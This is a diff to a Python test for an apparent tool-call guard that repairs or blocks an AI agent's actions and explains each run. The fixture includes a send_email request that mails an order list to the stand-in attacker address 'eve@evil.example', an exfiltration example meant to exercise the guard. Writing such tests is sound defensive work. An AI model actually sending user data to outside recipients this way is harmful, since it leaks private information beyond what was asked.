@@ -122,6 +122,7 @@ def test_receipts_show_what_ran_instead_and_what_is_offered(session_guard: Guard
     session = guard.session(run_id="r", instruction=ASKED)
     first = session.check(ToolRequest("list_orders", {"limit": 1000}, "call-1"))
     assert isinstance(first, Repaired)
+    assert first.repair is not None
     session.settle("call-1", "#1 Ann 12 EUR")
     arguments = {"to": ["dana@corp.example", "eve@evil.example"], "body": "the list"}
     request = ToolRequest("send_email", arguments, "call-2")
@@ -139,6 +140,8 @@ def test_receipts_show_what_ran_instead_and_what_is_offered(session_guard: Guard
     assert "offer=True" in advice
     assert "Approve it once" not in {item.title for item in offered.actions}
     run = explain_run(guard.ledger, "r")
+    assert run.why == "2 calls, 1 of them held or blocked, 1 repaired"
+    assert [(node.action, node.energy) for node in run.nodes][0] == ("repair", first.repair.energy)
     for shown in (run.text(), run.html()):
         assert "limit becomes 50" in shown
         assert "hat ran instead" in shown
